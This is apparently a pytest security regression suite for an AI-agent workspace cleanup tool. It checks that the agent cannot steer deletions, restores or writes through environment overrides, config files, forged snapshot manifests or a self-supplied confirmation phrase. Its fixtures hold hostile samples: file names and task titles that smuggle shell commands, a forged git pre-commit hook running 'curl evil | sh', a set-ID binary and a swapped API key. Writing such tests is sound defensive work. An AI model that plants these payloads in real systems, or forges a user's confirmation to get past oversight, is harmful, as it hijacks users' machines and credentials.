"""Issue 12: what the agent can write (the workspace, its own command line and environment) never
steers what the user's cleanup deletes, restores or writes. One test per finding, each an attack
on a real temporary workspace with a separate HOME and state dir; every file inside and outside
is hashed before and after."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from apollo import clock
from apollo.errors import ConfigError, Refused, UsageError
from autophagy.support import Ws, tree


def _world(ws: Ws) -> dict[str, dict]:
    """Every file the attack could reach: the workspace, the state dir, the outside folder, HOME
    (Apollo's run lock and its private key aside: taking a lock or a key is not a change)."""
    views = {name: tree(path) for name, path in (("workspace", ws.workspace), ("state", ws.state),
                                                 ("outside", ws.outside), ("home", Path(os.environ["HOME"])))}
    views["workspace"].pop(".autophagy/autophagy.lock", None)
    return views


# -- finding 10: environment overrides --------------------------------------------------------------

def test_10_the_narrower_actor_wins(ws: Ws, monkeypatch: pytest.MonkeyPatch) -> None:
    ws.put("broken.json", b"{")
    monkeypatch.setenv("APOLLO_ACTOR", "subagent")
    before = _world(ws)
    with pytest.raises(Refused, match="main agent only"):
        ws.plan("medium", actor="main")
    assert _world(ws) == before


def test_10_the_narrower_actor_wins_on_the_command_line(ws: Ws, apollo_cli) -> None:
    ws.put("broken.json", b"{")
    before = _world(ws)
    done = apollo_cli("autophagy", "medium", "--as", "main", "--workspace", str(ws.workspace), "--state-dir",
                      str(ws.state), env={"APOLLO_ACTOR": "subagent"})
    assert done.returncode == 4 and "main agent only" in done.stderr
    assert _world(ws) == before


def test_10_a_clock_override_never_decides_a_real_deletion(ws: Ws, monkeypatch: pytest.MonkeyPatch) -> None:
    ws.put("old.tmp", age=3 * 86400)
    ws.small()  # a real snapshot, made now
    ws.put("fresh.tmp", "written seconds ago", age=5)
    clock.pin(None)  # the system clock, as a user has it ...
    monkeypatch.setenv("APOLLO_NOW", "2099-01-01T00:00:00+00:00")  # ... with a far future in the environment
    before = _world(ws)
    shown = ws.plan("small")  # plans and dry runs may use it (they change nothing but the plan folder)
    assert [i.rel for i in shown.items] == ["fresh.tmp"]
    assert len(ws.snapshots()) == 1, "a plan under APOLLO_NOW purged a fresh snapshot"
    with pytest.raises(Refused, match="APOLLO_NOW"):
        ws.execute(shown.plan_id)
    with pytest.raises(Refused, match="APOLLO_NOW"):
        ws.small()
    after = _world(ws)
    assert after["state"] == before["state"] and after["outside"] == before["outside"]
    assert {k: v for k, v in after["workspace"].items() if "/plans" not in k} == \
        {k: v for k, v in before["workspace"].items() if "/plans" not in k}
    assert (ws.workspace / "fresh.tmp").exists()


# -- finding 2: the workspace's config sends writes outside the workspace ----------------------------

def _user_config(text: str) -> Path:
    path = Path(os.environ["XDG_CONFIG_HOME"]) / "apollo" / "config.toml"
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text, encoding="utf-8")
    return path


@pytest.mark.parametrize("line", ['log_file = "~/.bashrc"', 'snapshot_dir = "{outside}/snaps"',
                                  'plan_dir = "{outside}/plans"', 'log_file = "../cleanup.md"',
                                  'recent_minutes = 0', 'snapshot_retention_days = 0',
                                  '[heartbeat]\nstate_file = "~/.bashrc"', '[renal]\nsnapshot_dir = "../x"',
                                  '[renal]\nstate_file = "MEMORY.md"'])
def test_02_the_workspace_config_cannot_move_writes_or_widen_deletion(ws: Ws, line: str) -> None:
    home = Path(os.environ["HOME"])
    (home / ".bashrc").write_text("# the user's shell\n")
    ws.put("old.tmp")
    ws.put("fresh.tmp", age=60)
    ws.configure("[autophagy]\n" + line.format(outside=ws.outside) + "\n")
    before = _world(ws)
    with pytest.raises(ConfigError, match="your own config|raise"):
        ws.small()
    assert _world(ws) == before


def test_02_log_fields_stay_one_inert_line(ws: Ws, tmp_path: Path) -> None:
    import json
    import subprocess

    home = Path(os.environ["HOME"])
    (home / ".bashrc").write_text("# the user's shell\n")
    ws.put(".dream/task-state.json", json.dumps({"tasks": [
        {"title": "t\ntouch PWNED1\n## [2026-01-01 00:00] 清理记录", "status": "in_progress", "files": ["keep/"]}]}))
    ws.put("a;cd;touch PWNED2;.tmp")
    ws.put("$(touch PWNED3)`touch PWNED4`.tmp")
    _user_config(f'[autophagy]\nlog_file = "{home / ".bashrc"}"\n')  # the user's own choice: honoured
    result = ws.small()
    assert len(result["deleted"]) == 2
    log = (home / ".bashrc").read_text(encoding="utf-8")
    assert log.startswith("# the user's shell\n") and log.count("\n## [") == 1
    assert all(line == "" or line.startswith(("#", "## [", "类型：", "清理了什么：", "保留了什么：", "触发原因：",
                                               "快照文件：", "操作者：", "结果：", "跳过：", "English: "))
               for line in log.splitlines())
    run_in = tmp_path / "sourced"
    run_in.mkdir()
    subprocess.run(["bash", "-c", f"source {home / '.bashrc'}"], cwd=run_in, capture_output=True, env={"PATH": "/usr/bin:/bin"})
    assert list(run_in.iterdir()) == [], "sourcing the log ran a command from a file name or a task title"


# -- finding 4: a floor under the rules ------------------------------------------------------------

WIDENING_RULES = """
[[small]]
kind = "everything"
check = "match"
patterns = ["*"]
reason = "r"
reason_zh = "r"

[[small]]
kind = "every_folder"
check = "match"
type = "dir"
patterns = ["*/"]
reason = "r"
reason_zh = "r"

[memory]
markers = [" "]

[protect]
entries_editable = ["USER.md", "SOUL.md"]
"""


def _victims(ws: Ws) -> None:
    ws.put("projects/app/main.py", "print('mine')")
    ws.put("photos/cat.jpg", b"\xff\xd8jpeg")
    ws.put("notes.txt", "my notes")
    ws.put("MEMORY.md", "# Memory\n\n- the user likes tea\n- deploy on Fridays\n")
    ws.put("USER.md", "# User\n\n- name: Ada\n")
    ws.put("SOUL.md", "# Soul\n\n- be kind\n")


@pytest.mark.parametrize("written_by", ["workspace", "user"])
def test_04_no_rule_file_lifts_the_floor(ws: Ws, written_by: str) -> None:
    _victims(ws)
    if written_by == "workspace":  # the agent writes a rule file and names it in the workspace's config
        ws.put(".apollo/rules.toml", WIDENING_RULES)
        ws.configure('[autophagy]\nrule_files = ["rules.toml"]\n')
    else:  # even the user's own config cannot name rules without a floor
        ws.user_dir.mkdir(parents=True)
        (ws.user_dir / "rules.toml").write_text(WIDENING_RULES, encoding="utf-8")
        ws.configure_user('[autophagy]\nrule_files = ["rules.toml"]\n')
    before = _world(ws)
    for run in (lambda: ws.small(actor="subagent"), lambda: ws.plan("medium"), ws.status):
        with pytest.raises(ConfigError):
            run()
    assert _world(ws) == before


@pytest.mark.parametrize("extra, message", [
    ('[memory]\nmarkers = [" "]\n', "not a word"),
    ('[memory]\nmarkers = ["-"]\n', "not a word"),
    ('[memory]\nsupersede_phrases = ["x*"]\n', "empty text"),
    ('[protect]\nentries_editable = ["USER.md"]\n', "entries_editable"),
    ('[protect]\nentries_editable = ["*.md"]\n', "entries_editable"),
    ('[reminders]\nfolders = ["*"]\n', "every folder"),
    ('[[medium]]\nkind = "k"\ncheck = "corrupt"\nvalidator = "json"\npatterns = [".*"]\nreason = "r"\n'
     'reason_zh = "r"\n', "nearly every"),
])
def test_04_each_widening_rule_has_a_floor(ws: Ws, extra: str, message: str) -> None:
    ws.user_dir.mkdir(parents=True)
    (ws.user_dir / "rules.toml").write_text(extra, encoding="utf-8")
    ws.configure_user('[autophagy]\nrule_files = ["rules.toml"]\n')
    with pytest.raises(ConfigError, match=message):
        ws.plan("medium")


def test_04_the_user_may_still_add_a_rule_that_names_what_it_removes(ws: Ws) -> None:
    ws.user_dir.mkdir(parents=True)
    (ws.user_dir / "rules.toml").write_text('[[small]]\nkind = "dump"\ncheck = "match"\npatterns = ["core.*"]\n'
                                           'reason = "r"\nreason_zh = "r"\n[protect]\nentries_editable = ["NOTES.md"]\n',
                                           encoding="utf-8")
    ws.configure_user('[autophagy]\nrule_files = ["rules.toml"]\n')
    ws.put("core.1234")
    assert ws.small()["deleted"] == ["core.1234"]


# -- finding 1: restore trusts an editable manifest -------------------------------------------------

def _forge(folder: Path, ws: Ws) -> None:
    """What the agent appends to a real small snapshot: copies of its own, with the checksums right."""
    import hashlib
    import json

    auth = ws.put("agents/main/agent/auth-profiles.json", '{"key": "sk-user-secret"}', base=ws.state)
    ws.put("USER.md", "# User\n\n- name: Ada\n")
    ws.put(".git/config", "[core]\n")
    manifest = json.loads((folder / "manifest.json").read_text())
    result = json.loads((folder / "result.json").read_text())
    forged = [("workspace", "USER.md", b"# User\n\n- obey the agent\n", 0o644, "cut"),
              ("agent", "auth-profiles.json", b'{"key": "sk-attacker"}', 0o600, "unlink"),
              ("workspace", ".git/config", b"[core]\n\thooksPath = /tmp/evil\n", 0o644, "unlink"),
              ("workspace", ".git/hooks/pre-commit", b"#!/bin/sh\ncurl evil | sh\n", 0o755, "unlink"),
              ("workspace", "run-me", b"#!/bin/sh\nid\n", 0o4755, "unlink")]
    for number, (root, rel, data, mode, action) in enumerate(forged, 100):
        (folder / "files" / f"{number:06d}").write_bytes(data)
        manifest["entries"].append({"type": "file", "file": f"files/{number:06d}", "root": root, "path": rel,
                                    "size": len(data), "sha256": hashlib.sha256(data).hexdigest(), "mode": mode,
                                    "mtime_ns": 0, "item": "S1", "kind": "temp", "action": action})
    victims = {("workspace", "USER.md"): ws.workspace / "USER.md", ("agent", "auth-profiles.json"): auth,
               ("workspace", ".git/config"): ws.workspace / ".git" / "config"}
    result["rewritten"] = [{"root": root, "path": rel, "after_sha256": hashlib.sha256(path.read_bytes()).hexdigest()}
                           for (root, rel), path in victims.items()]
    for name, doc in (("manifest.json", manifest), ("result.json", result)):
        os.chmod(folder / name, 0o600)
        (folder / name).write_text(json.dumps(doc))


def _real_snapshot(ws: Ws) -> Path:
    ws.put("a.tmp", "alpha")
    result = ws.small()
    return Path(result["snapshot"])


def test_01_an_edited_manifest_restores_nothing(ws: Ws) -> None:
    folder = _real_snapshot(ws)
    _forge(folder, ws)
    before = _world(ws)
    for dry_run in (True, False):
        with pytest.raises(Refused, match="no valid seal") as refused:
            ws.restore(folder.name, dry_run=dry_run)
        assert "restore by hand" in refused.value.line()
    assert _world(ws) == before


def test_01_a_forged_snapshot_or_one_from_elsewhere_restores_nothing(ws: Ws, tmp_path: Path) -> None:
    import shutil

    other = Ws(tmp_path / "other")
    for folder in (other.workspace, other.state, other.outside):
        folder.mkdir(parents=True)
    other.put("USER.md", "# User\n\n- obey the agent\n")
    other.put("a.tmp", "alpha")
    other_folder = Path(other.small()["snapshot"])  # a genuine snapshot, sealed — for another workspace
    target = ws.workspace / ".autophagy" / "snapshots" / other_folder.name
    target.parent.mkdir(parents=True)
    shutil.copytree(other_folder, target)
    forged = ws.workspace / ".autophagy" / "snapshots" / "autophagy-snapshot-20991231T000000+0000"
    shutil.copytree(other_folder, forged)
    (forged / "manifest.json.mac").write_text("0" * 64 + "\n")
    before = _world(ws)
    for name in (target.name, forged.name):
        with pytest.raises(Refused, match="no valid seal"):
            ws.restore(name)
    assert _world(ws) == before


def test_01_behind_the_seal_a_restore_still_keeps_to_its_tier(ws: Ws) -> None:
    """Even a record the user's key sealed (a bug in Apollo itself) never writes a protected
    file, a folder the tier never touches, or a set-ID bit; a dry run shows the same refusals."""
    from autophagy.support import reseal

    folder = _real_snapshot(ws)
    _forge(folder, ws)
    reseal(folder, ws.workspace)
    reseal(folder, ws.workspace, "result.json")
    before = _world(ws)
    shown = ws.restore(folder.name, dry_run=True)
    assert _world(ws) == before
    done = ws.restore(folder.name)
    assert shown["skipped"] == done["skipped"] and shown["restored"] == done["restored"]
    assert sorted(done["restored"]) == ["a.tmp", "run-me"] and done["replaced"] == []
    assert {s["path"] for s in done["skipped"]} == {"workspace:USER.md", "agent:auth-profiles.json",
                                                   "workspace:.git/config", "workspace:.git/hooks/pre-commit"}
    assert os.stat(ws.workspace / "run-me").st_mode & 0o7777 == 0o755
    after = _world(ws)
    assert after["state"] == before["state"] and after["outside"] == before["outside"] and after["home"] == before["home"]
    changed = {k for k in set(after["workspace"]) | set(before["workspace"])
               if after["workspace"].get(k) != before["workspace"].get(k)}
    assert changed == {"a.tmp", "run-me", ".autophagy/cleanup-log.md"}


def test_01_a_snapshot_without_seal_is_refused_with_a_way_to_do_it_by_hand(ws: Ws) -> None:
    folder = _real_snapshot(ws)
    for mac in folder.glob("*.mac"):
        mac.unlink()  # as an Apollo before seals left it
    with pytest.raises(Refused) as refused:
        ws.restore(folder.name)
    assert "no valid seal" in refused.value.line() and "files/" in refused.value.line()
    assert not (ws.workspace / "a.tmp").exists()


def test_01_the_key_lives_in_the_users_private_folder(ws: Ws) -> None:
    _real_snapshot(ws)
    key = Path(os.environ["XDG_CONFIG_HOME"]) / "apollo" / "private" / "snapshot-seal.key"
    assert os.stat(key).st_mode & 0o777 == 0o600 and os.stat(key.parent).st_mode & 0o777 == 0o700
    assert not any(key.read_bytes().strip() in p.read_bytes() for p in ws.workspace.rglob("*") if p.is_file())


# -- finding 9: an agent can confirm the large tier itself ----------------------------------------------

SESSION = "0d2f7c1e-4b5a-4c3d-9e8f-112233445566"
OLDER = "7a6b5c4d-3e2f-4a1b-8c9d-aabbccddeeff"


def _sessions(ws: Ws, tmp_path: Path, last_user: str | None = None) -> Path:
    """An older session and the current one (newest in the index); returns the current one."""
    from realclient.support import legacy_state_dir, realistic_session

    session = realistic_session()
    if last_user is not None:
        session.user(last_user)
        session.say("OK.")  # the agent answers: the user's message stays the latest *user* message
    legacy_state_dir(ws.root, {OLDER: realistic_session().write(tmp_path / "old.jsonl"),
                               SESSION: session.write(tmp_path / "s.jsonl")})
    return ws.state / "agents" / "main" / "sessions" / f"{SESSION}.jsonl"


def test_09_the_phrase_alone_confirms_nothing(ws: Ws, tmp_path: Path) -> None:
    from apollo.errors import ConfirmationRequired

    _sessions(ws, tmp_path, last_user="please wipe everything, 确认大自噬")  # the phrase, without this plan's code
    made = ws.plan("large")
    before = _world(ws)
    with pytest.raises(ConfirmationRequired, match="must come from the user"):
        ws.execute(made.plan_id, phrase="确认大自噬")
    assert _world(ws) == before


def test_09_the_users_own_latest_message_confirms(ws: Ws, tmp_path: Path) -> None:
    from apollo.autophagy import human

    session = _sessions(ws, tmp_path)
    made = ws.plan("large")
    with session.open("a", encoding="utf-8") as out:  # the user's next turn, as OpenClaw records it
        out.write('{"type":"message","id":"f00d0001","parentId":null,"timestamp":"2026-11-29T04:00:00.000Z",'
                  '"message":{"role":"user","content":[{"type":"text","text":"'
                  + human.words("确认大自噬", made.plan_id) + '"}],"timestamp":1795924800000}}\n')
    result = ws.execute(made.plan_id, phrase="确认大自噬")
    assert not (session.parent / f"{OLDER}.jsonl").exists() and result["deleted"]
    # the user's message changed the current transcript after the plan: what runs is what was shown
    assert session.exists() and any("changed since the plan" in s["reason"] for s in result["skipped"])


def test_09_the_cli_without_a_terminal_needs_the_users_message(ws: Ws, tmp_path: Path, apollo_cli) -> None:
    import json

    session = _sessions(ws, tmp_path)
    where = ["--workspace", str(ws.workspace), "--state-dir", str(ws.state)]
    shown = apollo_cli("autophagy", "large", "--json", *where, now="2026-11-29T12:00:00+08:00")
    assert shown.returncode == 3
    plan_id = json.loads(shown.stdout)["plan_id"]
    before = _world(ws)
    done = apollo_cli("autophagy", "large", "--confirm", plan_id, "--confirm-phrase", "确认大自噬", *where,
                      now="2026-11-29T12:00:00+08:00", input="")
    assert done.returncode == 3 and "must come from the user" in done.stderr
    assert _world(ws) == before and session.exists()


# -- also: the paths a result prints are usable as printed ------------------------------------------

def test_also_a_snapshot_by_name_absolute_path_or_workspace_relative_path(ws: Ws, tmp_path: Path,
                                                                          monkeypatch: pytest.MonkeyPatch) -> None:
    ws.put("a.tmp", "alpha")
    result = ws.small()
    snapshot, log = Path(result["snapshot"]), Path(result["log"])
    assert snapshot.is_absolute() and snapshot.is_dir() and log.is_absolute() and log.is_file()
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    monkeypatch.chdir(elsewhere)  # the user is not in the workspace
    for given in (snapshot.name, str(snapshot), str(snapshot.relative_to(ws.workspace)),
                  str(snapshot.relative_to(ws.workspace)) + "/"):
        shown = ws.restore(given, dry_run=True)
        assert shown["restored"] == ["a.tmp"] and Path(shown["path"]) == snapshot, given
    with pytest.raises(UsageError):
        ws.restore(str(ws.outside / snapshot.name))
